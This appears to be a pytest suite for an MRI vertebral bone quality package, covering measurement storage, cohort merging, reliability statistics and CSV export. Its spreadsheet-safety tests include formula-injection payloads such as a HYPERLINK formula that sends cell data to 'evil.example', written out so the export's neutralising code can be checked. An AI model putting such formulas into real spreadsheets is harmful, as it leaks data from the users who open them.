    assert report.ok and table.loc[0, "csf_level"] == "L3" and not table.loc[0, "excluded"]
    # saved by a spreadsheet in a decimal-comma locale: semicolons read (as in a cohort file),
    # decimal commas with a warning naming the first row and how many more
    table, report = read_measurements("patient_id;observer;session;level;si_mean\n"
                                      "A1;AB;1;L1;99,5\nA1;AB;1;L2;101.5\nA1;AB;1;L3;1,25\n")
    assert report.ok and table["si_mean"].tolist() == [99.5, 101.5, 1.25]
    assert [(p.severity, p.row, p.column) for p in report.problems] == [("warning", 2, "si_mean")]
    assert "decimal comma" in report.problems[0].message and "1 more" in report.problems[0].message


# --------------------------------------------------------------------------------------------
# spreadsheet safety


def test_neutralise_formula_neutralises_formula_triggers_only_in_text():
    for text in ("=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "  =1", "\uff1d1+1"):
        assert neutralise_formula(text) == "'" + text
    for value in ("VBQ-001", "", "a=b", "'quoted", -1.5, 0, True, None, np.nan,
                  pd.Timestamp("2026-01-01")):
        out = neutralise_formula(value)
        assert out is value or (isinstance(value, float) and np.isnan(out))


def test_neutralise_frame_and_safe_csv():
    frame = pd.DataFrame({
        "patient_id": ['=HYPERLINK("http://evil.example/?"&A1,"x")', "DEMO-001", None],
        "n": [-1, 2, 3],
        "x": [-1.5, 2.0, np.nan],
        "=bad header": ["@cmd", "ok", "+1"],
    })
    out = neutralise_frame(frame)
    assert out["patient_id"].tolist()[:2] == ["'" + frame.loc[0, "patient_id"], "DEMO-001"]
    assert pd.isna(out["patient_id"].tolist()[2])
    assert out["patient_id"].dtype == frame["patient_id"].dtype
    assert out["n"].tolist() == [-1, 2, 3] and out["n"].dtype == frame["n"].dtype
    assert out["'=bad header"].tolist() == ["'@cmd", "ok", "'+1"]
    assert frame.loc[0, "patient_id"].startswith("=")  # the input is untouched
    text = safe_csv(frame)
    cells = [c for line in text.splitlines() for c in line.split(",")]
    assert not any(c.lstrip('"').startswith(("=", "+", "@")) for c in cells)
    assert "-1.5" in cells  # numbers are not changed


def test_history_export_neutralises_user_text(store):
    store.save(reading("VBQ-001"))
    store.delete("VBQ-001", observer="AB", session=1, level="L1",
                 reason='=HYPERLINK("http://evil.example","click")')
    text = store.export_csv(table="history")
    assert "\"'=HYPERLINK(" in text
    assert ",=HYPERLINK" not in text and ',"=HYPERLINK' not in text
    with pytest.raises(InputError, match="table"):
        store.export_csv(table="patients")


# --------------------------------------------------------------------------------------------
# into the cohort: the spreadsheet path reproduced


def _demo_measurements(cohort: pd.DataFrame, ids) -> list[ROIMeasurement]:
    """The demo cohort's own SIs for `ids`, as if measured in the app."""
    rois = []
    for _, row in cohort[cohort["patient_id"].isin(ids)].iterrows():
        collapsed = tuple(lv for lv in LEVELS if row[f"collapsed_{lv.lower()}"] == "yes")
        rois += reading(row["patient_id"], sis=tuple(row[SI_COLS]), csf=row["si_csf"],
                        collapsed=collapsed, csf_level=row["csf_level"])
    return rois


DEMO_IDS = ["DEMO-001", "DEMO-002", "DEMO-015", "DEMO-022", "DEMO-106", "DEMO-125", "DEMO-223"]


def test_merge_reproduces_the_spreadsheet_vbq(store):
    cohort, dxa = vbq.demo.load()
    store.save(_demo_measurements(cohort, DEMO_IDS + ["NOT-IN-COHORT"]))
    store.save(reading("NOT-IN-COHORT"))
    # the cohort as a user would bring it when measuring in the app: those patients' SIs blank
    blanked = cohort.copy()
    sel = blanked["patient_id"].isin(DEMO_IDS)
    blanked.loc[sel, [*SI_COLS, "si_csf"]] = np.nan
    blanked.loc[sel, "csf_level"] = np.nan
    blanked.loc[sel, [f"collapsed_l{i}" for i in range(1, 5)]] = "no"
    merged = merge_into_cohort(blanked, store)
    assert merged.measured == tuple(DEMO_IDS)
    assert merged.not_in_cohort == ("NOT-IN-COHORT",)
    assert len(merged.not_measured) == len(cohort) - len(DEMO_IDS)
    assert merged.replaced == ()
    expected_result = vbq.prepare_cohort(cohort, dxa)
    got_result = vbq.prepare_cohort(merged.cohort, dxa)
    expected, got = expected_result.table, got_result.table
    pd.testing.assert_series_equal(got["vbq"], expected["vbq"])
    assert got["patient_id"].tolist() == expected["patient_id"].tolist()
    assert got_result.counts == expected_result.counts
    pd.testing.assert_frame_equal(got_result.exclusions, expected_result.exclusions)
    # and the merged VBQ is compute_vbq of the stored numbers, reading by reading
    per = reading_vbq(store).set_index("patient_id")
    for pid in DEMO_IDS:
        assert got.loc[got["patient_id"] == pid, "vbq"].item() == per.loc[pid, "vbq"]
    # DEMO-022 has a collapsed L2: the median of the other three (hand computation)
    row = cohort[cohort["patient_id"] == "DEMO-022"].iloc[0]
    assert row["collapsed_l2"] == "yes"
    hand = statistics.median([row["si_l1"], row["si_l3"], row["si_l4"]]) / row["si_csf"]
    assert per.loc["DEMO-022", "vbq"] == pytest.approx(hand, rel=1e-12)


def test_merge_into_a_cohort_without_si_columns_and_the_report(store):
    cohort, dxa = vbq.demo.load()
    store.save(_demo_measurements(cohort, DEMO_IDS[:3]))
    bare = cohort.drop(columns=[*SI_COLS, "si_csf", "csf_level"])
    merged = merge_into_cohort(bare, store)
    prepared = vbq.prepare_cohort(merged.cohort, dxa)
    assert sorted(prepared.table["patient_id"]) == sorted(DEMO_IDS[:3])
    log = prepared.exclusions
    assert set(log.loc[log["patient_excluded"], "patient_id"]) == set(merged.not_measured)
    frame = merged.to_frame()
    assert frame.set_index("patient_id").loc["DEMO-001", "si_source"] == "measurements"
    assert frame.set_index("patient_id").loc["DEMO-003", "si_source"] == "none"
    assert "3 cohort patient(s) measured" in merged.summary()
    # with the spreadsheet SIs present, the measured ones replace them where they differ
    store.save(reading("DEMO-004"))
    merged = merge_into_cohort(cohort, store)
    assert merged.replaced == ("DEMO-004",)
    assert frame.columns.tolist() == ["patient_id", "in_cohort", "measured", "si_source",
                                      "readings", "series_flags", "field_strength_t", "scanner",
                                          "sequence"]
    # an ID differing only in case is not merged, and the report says so
    store.save(reading("demo-005"))
    merged = merge_into_cohort(cohort, store)
    assert "demo-005" in merged.not_in_cohort
    assert "demo-005 (DEMO-005)" in merged.notes[0]


def test_the_schema_compiles_for_postgresql():
    # no PostgreSQL server here: check that the DDL renders for the dialect the README documents
    import sqlalchemy as sa
    from sqlalchemy.dialects import postgresql

    import vbq.measurements._store as m

    ddl = "\n".join(str(sa.schema.CreateTable(t).compile(dialect=postgresql.dialect()))
                    for t in (m._meta_table, m._rois, m._history))
    assert "DOUBLE PRECISION" in ddl and "TIMESTAMP WITH TIME ZONE" in ddl
    assert "PRIMARY KEY (patient_id, observer, session, level)" in ddl
    assert "history_id SERIAL" in ddl


def test_choosing_observer_and_session_or_their_mean(store):
    store.save(reading("P1", "AB", 1, sis=(300.0, 300.0, 300.0, 300.0), csf=100.0))
    store.save(reading("P1", "AB", 2, sis=(310.0, 310.0, 310.0, 310.0), csf=100.0,
                       collapsed=("L4",)))
    store.save(reading("P1", "CD", 1, sis=(320.0, 320.0, 320.0, 320.0), csf=110.0,
                       csf_level="L2"))
    # the default: one primary reading, the first observer (alphabetical) and their 1st session
    first = to_cohort_si(store)
    assert first.loc[0, "si_l1"] == 300.0 and first.loc[0, "n_readings"] == 1
    pd.testing.assert_frame_equal(first, to_cohort_si(store, observer="AB", session=1))
    with pytest.raises(InputError, match="observer"):
        to_cohort_si(store, observer="ZZ")
    with pytest.raises(InputError, match="no readings in session 2; their sessions are 1"):
        to_cohort_si(store, observer="CD", session=2)
    with pytest.raises(InputError, match="one observer's"):
        to_cohort_si(store, observer=["AB", "CD"])
    one = to_cohort_si(store, observer="AB", session=2)
    assert one.loc[0, "si_l1"] == 310.0 and one.loc[0, "collapsed_l4"]
    assert one.loc[0, "n_readings"] == 1
    mean = to_cohort_si(store, observer="AB", combine="mean")
    assert mean.loc[0, "si_l1"] == 305.0 and mean.loc[0, "si_csf"] == 100.0
    assert mean.loc[0, "collapsed_l4"] and not mean.loc[0, "collapsed_l1"]
    assert mean.loc[0, "n_readings"] == 2
    every = to_cohort_si(store, combine="mean")
    assert every.loc[0, "si_l1"] == pytest.approx((300 + 310 + 320) / 3)
    assert every.loc[0, "csf_level"] == "L3"  # two readings at L3, one at L2
    cohort = pd.DataFrame({"patient_id": ["P1"], "age": [60], "sex": ["F"]})
    merged = merge_into_cohort(cohort, store, combine="mean")
    assert merged.notes and "different levels" in merged.notes[0]
    assert not merge_into_cohort(cohort, store).notes  # one reading: no CSF levels to average
    for bad in ("median", "select"):
        with pytest.raises(InputError, match="combine"):
            to_cohort_si(store, combine=bad)
    # a table that is not a typed measurement table is refused, not misread
    raw = pd.read_csv(io.StringIO(store.export_csv()), dtype=str)
    with pytest.raises(InputError, match="dtypes"):
        to_cohort_si(raw, observer="AB", session=1)
    typed = store.load()
    with pytest.raises(InputError, match="duplicated reading"):
        reading_vbq(pd.concat([typed, typed.head(1)]))
    table, _ = read_measurements(store.export_csv())
    pd.testing.assert_frame_equal(to_cohort_si(table, observer="AB", session=1),
                                  to_cohort_si(store, observer="AB", session=1))


def test_the_default_merge_is_one_primary_reading_not_a_mix_of_observers(store):
    # issue 16: the old default averaged every reading level by level; a level collapsed in any
    # one reading was dropped for all, CSF SIs from different levels were averaged, and patients
    # got different mixes of observers. The paper analysed one primary reading.
    store.save(reading("P1", "AB", 1, sis=(300.0, 320.0, 310.0, 330.0), csf=100.0))
    store.save(reading("P1", "CD", 1, sis=(200.0, 220.0, 210.0, 230.0), csf=150.0,
                       collapsed=("L2",), csf_level="L2"))
    store.save(reading("P2", "CD", 1))  # read by CD only
    cohort = pd.DataFrame({"patient_id": ["P1", "P2"], "age": [60, 70], "sex": ["F", "M"]})
    merged = merge_into_cohort(cohort, store)
    assert (merged.combine, merged.observer, merged.session) == ("primary", "AB", 1)
    assert merged.measured == ("P1",) and merged.not_measured == ("P2",)  # no substitute
    row = merged.cohort.set_index("patient_id").loc["P1"]
    assert [row[c] for c in SI_COLS] == [300.0, 320.0, 310.0, 330.0] and row["si_csf"] == 100.0
    assert not row["collapsed_l2"] and row["csf_level"] == "L3"
    # what a reader is told: the rules, in words, in the report's summary
    assert "One primary reading per patient: observer AB, session 1" in merged.rules
    assert "first observer in alphabetical order" in merged.rules
    assert "no other observer's or session's reading is used" in merged.rules
    assert "Rules: " + merged.rules in merged.summary()
    chosen = merge_into_cohort(cohort, store, observer="CD", session=1)
    assert chosen.measured == ("P1", "P2") and "(as chosen)" in chosen.rules
    assert chosen.cohort.set_index("patient_id").loc["P1", "collapsed_l2"]
    mean = merge_into_cohort(cohort, store, combine="mean")
    assert mean.measured == ("P1", "P2")
    assert mean.to_frame().set_index("patient_id")["readings"].to_dict() == {"P1": 2, "P2": 1}
    assert "collapsed in any one reading is left out for all" in mean.rules
    assert "different levels" in mean.rules


def test_the_merge_report_names_the_scanner_behind_each_reading(store):
    # issue 19: VBQ depends on the scanner (mean 2.77 at 1.5 T vs 2.20 at 3 T in one study)
    store.save(reading("P1", field_strength_t=1.5, manufacturer="ACME", model_name="One"))
    store.save(reading("P2", field_strength_t=3.0, manufacturer="Other", model_name="Two"))
    store.save(reading("P3", field_strength_t=1.5))
    store.save(reading("P3", session=2, field_strength_t=3.0))
    store.save(reading("P4"))
    cohort = pd.DataFrame({"patient_id": ["P1", "P2", "P3", "P4"], "age": [60, 70, 65, 50],
                           "sex": ["F", "M", "F", "M"]})
    merged = merge_into_cohort(cohort, store)
    frame = merged.to_frame().set_index("patient_id")
    assert frame.loc["P1", "field_strength_t"] == 1.5 and frame.loc["P1", "scanner"] == "ACME One"
    assert frame.loc["P2", "scanner"] == "Other Two"
    assert np.isnan(frame.loc["P4", "field_strength_t"]) and pd.isna(frame.loc["P4", "scanner"])
    assert merged.mixed_acquisition
    assert ("Field strength of the readings used (patients): 1.5 T 2, 3 T 1, unknown 1; more "
            "than one field strength or manufacturer is in use") in merged.summary()
    # averaged readings that differ in field strength give no single value
    mean = to_cohort_si(store, combine="mean").set_index("patient_id")
    assert np.isnan(mean.loc["P3", "field_strength_t"]) and mean.loc["P1", "field_strength_t"] == 1.5
    one = merge_into_cohort(cohort[cohort["patient_id"] == "P1"], store)
    assert not one.mixed_acquisition


def test_the_merge_puts_the_field_strength_into_the_cohort_and_names_the_sequence(store):
    # issue 19: the field strength of the readings used travels with the SIs, so the analyses
    # can be stratified by it; a patient without a recorded one keeps the file's value
    store.save(reading("P1", field_strength_t=1.5, scanning_sequence="SE", tr_ms=600.0,
                       te_ms=20.0))
    store.save(reading("P2", field_strength_t=3.0, scanning_sequence="IR\\SE", tr_ms=2000.0,
                       te_ms=10.0, ti_ms=800.0))
    store.save(reading("P3"))
    cohort = pd.DataFrame({"patient_id": ["P1", "P2", "P3", "P4"], "age": [60, 70, 65, 50],
                           "sex": ["F", "M", "F", "M"], "field_strength_t": [3.0, 3.0, 1.5, 3.0]})
    merged = merge_into_cohort(cohort, store)
    field = merged.cohort.set_index("patient_id")["field_strength_t"].to_dict()
    assert field == {"P1": 1.5, "P2": 3.0, "P3": 1.5, "P4": 3.0}
    frame = merged.to_frame().set_index("patient_id")
    assert frame.loc["P1", "sequence"] == "spin echo, TR 600 ms, TE 20 ms"
    assert frame.loc["P2", "sequence"] == "inversion recovery, TR 2000 ms, TE 10 ms, TI 800 ms"
    assert pd.isna(frame.loc["P3", "sequence"])
    line = [t for t in merged.summary().splitlines() if t.startswith("Sequences")]
    assert len(line) == 1 and sorted(line[0].split(": ", 1)[1].split("; ")) == [
        "inversion recovery, TR 2000 ms, TE 10 ms, TI 800 ms 1", "not recorded 1",
        "spin echo, TR 600 ms, TE 20 ms 1"]
    # a cohort file without the column gets it from the readings
    bare = merge_into_cohort(cohort.drop(columns="field_strength_t"), store)
    assert bare.cohort.set_index("patient_id")["field_strength_t"].loc["P1"] == 1.5
    assert np.isnan(bare.cohort.set_index("patient_id")["field_strength_t"].loc["P4"])


def test_flagged_readings_are_marked_and_can_be_left_out(store):
    # issue 16: a T1 FLAIR reading (VBQ 4.8-4.9) entered Tables 2-4 silently
    flair = "not_validated_sequence;lossy_compression"
    store.save(reading("P1", "AB", 1, series_flags=flair))
    store.save(reading("P2", "AB", 1))
    store.save(reading("P3", "AB", 1, series_flags="no_pixel_spacing"))
    store.save(reading("P1", "AB", 2))
    cohort = pd.DataFrame({"patient_id": ["P1", "P2", "P3"], "age": [60, 70, 65],
                           "sex": ["F", "M", "F"]})
    merged = merge_into_cohort(cohort, store, observer="AB", session=1)
    assert merged.flagged == ("P1", "P3") and merged.series_flags["P1"] == flair
    frame = merged.to_frame().set_index("patient_id")
    assert "unvalidated sequence (e.g. T1 FLAIR)" in frame.loc["P1", "series_flags"]
    assert "lossy compression" in frame.loc["P1", "series_flags"]
    assert frame.loc["P2", "series_flags"] == ""
    text = merged.summary()
    assert "2 patient(s) measured on a flagged series, used: P1 (" in text
    assert "are used and marked" in merged.rules
    left = merge_into_cohort(cohort, store, observer="AB", session=1, exclude_flagged=True)
    assert left.measured == ("P2",) and left.left_out_flagged == ("P1", "P3")
    assert not left.flagged and "left out (2 patient(s))" in left.rules
    assert "2 patient(s) with readings from a flagged series left out" in left.summary()
    only = merge_into_cohort(cohort, store, observer="AB", session=1,
                             exclude_flagged={"not_validated_sequence"})
    assert only.measured == ("P2", "P3") and only.left_out_flagged == ("P1",)
    # with the mean, only the flagged reading of P1 is left out, its other reading stays
    mean = to_cohort_si(store, combine="mean", exclude_flagged=True)
    assert mean.set_index("patient_id")["n_readings"].to_dict() == {"P1": 1, "P2": 1}
    with pytest.raises(InputError, match="exclude_flagged"):
        to_cohort_si(store, exclude_flagged=3)


def test_a_reading_measured_on_the_phantom_round_trips_through_the_database(store):
    # the MRI page's path: DICOM -> ROIs -> database rows -> cohort -> the same VBQ as the page's
    from vbq import imaging, phantom

    datasets, truth = phantom.make_series(seed=0)
    series = imaging.load_series(phantom.series_zip(datasets))
    image = series.pixels[series.mid_slice]
    rois = {name: imaging.roi_stats(image, series.spacing_mm, truth.centres[name],
                                    truth.roi_radius_mm[name])
            for name in ("L1", "L2", "L3", "L4", "CSF")}
    on_page = imaging.measure_vbq(rois, collapsed=["L4"], csf_level="L2")
    rows = reading_from_rois(rois, patient_id="PH-001", observer="AB", session=1,
                               slice_index=series.mid_slice, series=series, collapsed=["L4"],
                               csf_level="L2")
    store.save(rows)
    table = store.load()
    assert table["level"].tolist() == ["L1", "L2", "L3", "L4", "CSF"]
    assert table["excluded"].tolist() == [False, False, False, True, False]
    assert table["csf_level"].tolist() == [None, None, None, None, "L2"]
    assert set(table["series_fingerprint"]) == {series.fingerprint}
    assert set(table["slice_index"]) == {series.mid_slice}
    # exported as the slice the page showed (from 1): that slice's pixels give the SIs stored
    exported = pd.read_csv(io.StringIO(store.export_csv()))
    assert set(exported["slice_number"]) == {series.mid_slice + 1}
    number = int(exported["slice_number"].iloc[0])
    assert imaging.roi_stats(series.pixels[number - 1], series.spacing_mm, truth.centres["L1"],
                             truth.roi_radius_mm["L1"]).mean == exported["si_mean"].iloc[0]
    l1 = table.iloc[0]
    assert (l1["si_mean"], l1["si_median"], l1["si_sd"], l1["pixel_count"]) == (
        rois["L1"].mean, rois["L1"].median, rois["L1"].sd, rois["L1"].n_pixels)
    assert (l1["centre_row_px"], l1["centre_col_px"]) == tuple(map(float, rois["L1"].centre))
    assert (l1["tr_ms"], l1["te_ms"], l1["field_strength_t"]) == (
        series.repetition_time_ms, series.echo_time_ms, series.field_strength_t)
    assert reading_vbq(store)["vbq"].item() == on_page.vbq
    merged = merge_into_cohort(pd.DataFrame({"patient_id": ["PH-001"], "age": [61],
                                             "sex": ["F"]}), store)
    row = merged.cohort.iloc[0]
    assert row["si_csf"] == rois["CSF"].mean and row["csf_level"] == "L2"
    assert bool(row["collapsed_l4"]) and not bool(row["collapsed_l1"])
    with pytest.raises(InputError, match="unknown names"):
        reading_from_rois({"L5": rois["L1"]}, patient_id="PH-001", observer="AB", session=1)


# --------------------------------------------------------------------------------------------
# reliability from the database


def _reliability_store(store, n=12, seed=1):
    rng = np.random.default_rng(seed)
    for i in range(n):
        true = rng.normal(320, 40, 4)
        for observer, session, noise in (("AB", 1, 0), ("AB", 2, 6), ("CD", 1, 9)):
            sis = tuple(float(v) for v in true + rng.normal(0, noise + 1, 4))
            store.save(reading(f"P{i:02d}", observer, session, sis,
                               csf=float(110 + rng.normal(0, 3))))
    # one patient read only once: an incomplete target
    store.save(reading("P99", "AB", 1))
    store.save(reading("P98", "AB", 2, collapsed=("L1", "L2")))  # too few levels: no VBQ


def test_reading_vbq_matches_compute_vbq(store):
    _reliability_store(store)
    per = reading_vbq(store)
    table = store.load()
    for (pid, obs, ses), grp in table.groupby(["patient_id", "observer", "session"]):
        g = grp.set_index("level")
        res = vbq.compute_vbq(g.loc[list(LEVELS), "si_mean"].to_numpy()[None, :],
                              np.array([g.loc["CSF", "si_mean"]]),
                              g.loc[list(LEVELS), "excluded"].to_numpy()[None, :])
        row = per[(per["patient_id"] == pid) & (per["observer"] == obs) & (per["session"] == ses)]
        np.testing.assert_equal(row["vbq"].item(), res.vbq[0])
    p98 = per[per["patient_id"] == "P98"].iloc[0]
    assert np.isnan(p98["vbq"]) and "only 2 evaluable" in p98["reason"]


def test_reliability_from_the_database_matches_icc_by_hand(store):
    _reliability_store(store)
    per = reading_vbq(store)
    intra = intra_observer_vbq(store, "AB")
    assert intra.columns.tolist() == ["patient_id", "AB/1", "AB/2"]
    # by hand: the same numbers straight from reading_vbq, through to_long and icc
    hand = per[per["observer"] == "AB"].pivot(index="patient_id", columns="session",
                                               values="vbq")
    hand.columns = ["AB/1", "AB/2"]
    hand = hand.reset_index()
    pd.testing.assert_frame_equal(intra, hand, check_names=False)
    long = vbq.stats.to_long(hand, "patient_id", ["AB/1", "AB/2"])
    expected = vbq.stats.icc(long, "patient_id", "rater", "rating")
    res = reliability(intra)
    assert res.icc.to_frame().equals(expected.to_frame())
    assert res.icc.n == 12 and set(res.icc.excluded_targets) == {"P98", "P99"}
    ba = vbq.stats.bland_altman(hand["AB/1"], hand["AB/2"])
    assert res.bland_altman.bias == ba.bias and res.bland_altman.n == 12
    # inter-observer: the two observers of session 1 (chosen automatically)
    inter = inter_observer_vbq(store)
    assert inter.columns.tolist() == ["patient_id", "AB/1", "CD/1"]
    assert reliability(inter).icc.n == 12
    # the intra observer is chosen automatically when only one read both sessions
    pd.testing.assert_frame_equal(intra_observer_vbq(store), intra)


def test_reliability_choices_are_checked(store):
    _reliability_store(store, n=3)
    with pytest.raises(InputError, match="at least 2 different"):
        vbq_wide(store, [("AB", 1)])
    with pytest.raises(InputError, match="no readings for"):
        vbq_wide(store, [("AB", 1), ("ZZ", 1)])
    with pytest.raises(InputError, match="need 2 observers"):
        inter_observer_vbq(store, session=2)
    three = vbq_wide(store, [("AB", 1), ("AB", 2), ("CD", 1)])
    res = reliability(three)
    assert res.icc.n_raters == 3 and isinstance(res.bland_altman, str)
    # one patient read twice: nothing to estimate, and the result says why instead of raising
    one = reliability(vbq_wide(store.load(patient_id="P00"), [("AB", 1), ("AB", 2)]))
    assert "at least 2" in one.icc and "at least 2 complete pairs" in one.bland_altman
    with pytest.raises(InputError, match="patient_id"):
        reliability(three.drop(columns="patient_id"))


# --------------------------------------------------------------------------------------------
# the subpackage's import graph


def test_the_store_loads_neither_the_exports_nor_the_statistics():
    # issue 17: a database module imported vbq.export, which imports vbq.present; the
    # statistics (vbq.stats: scipy, statsmodels) are loaded only when reliability is used
    import subprocess
    import sys

    code = """
import sys
import vbq
before = set(sys.modules)
import vbq.measurements as m
store = m.MeasurementStore("sqlite://")
store.save([m.ROIMeasurement("VBQ-001", "AB", 1, "L1", 300.0)])
store.export_csv()
m.to_cohort_si(store)
new = set(sys.modules) - before
print(sorted(x for x in new if x.split(".")[1:2] in (["export"], ["present"], ["stats"])))
print("vbq.measurements._reliability" in sys.modules)
m.reliability
print("vbq.measurements._reliability" in sys.modules)
"""
    out = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True,
                         check=True).stdout.split()
    assert out == ["[]", "False", "True"], out
    # and no module of the subpackage but _reliability names them at all
    import ast

    folder = Path(vbq.__file__).parent / "measurements"
    for path in folder.glob("*.py"):
        tree = ast.parse(path.read_text())
        found = {(node.module or "") for node in ast.walk(tree)
                 if isinstance(node, ast.ImportFrom) and node.level == 2}
        heavy = found & {"stats", "export", "present", "cohort", "figures", "report", "study"}
        assert not heavy or path.name == "_reliability.py", (path.name, heavy)


# --------------------------------------------------------------------------------------------
# documentation


def test_usage_measurement_block_runs_on_the_demo(tmp_path, monkeypatch):
    # docs/usage.md's example, executed as written, with the default database in a temporary folder
    import re

    monkeypatch.setenv("VBQ_DATA_DIR", str(tmp_path / "data"))
    readme = (Path(vbq.__file__).resolve().parents[1] / "docs" / "usage.md").read_text()
    section = readme.split("### Measurement database (notebook)", 1)[1]
    code = re.search(r"```python\n(.*?)```", section, re.S).group(1)
    cohort, dxa = vbq.demo.load()
    scope = {"vbq": vbq, "cohort": cohort, "dxa": dxa}
    exec(compile(code, "docs/usage.md", "exec"), scope)  # our own documentation, run as written
    assert (tmp_path / "data" / "measurements.sqlite").exists()
    table = scope["prepared"].table
    assert table.loc[table["patient_id"] == "DEMO-001", "vbq"].item() == 315.0 / 110.0
    assert scope["merged"].measured == ("DEMO-001",)
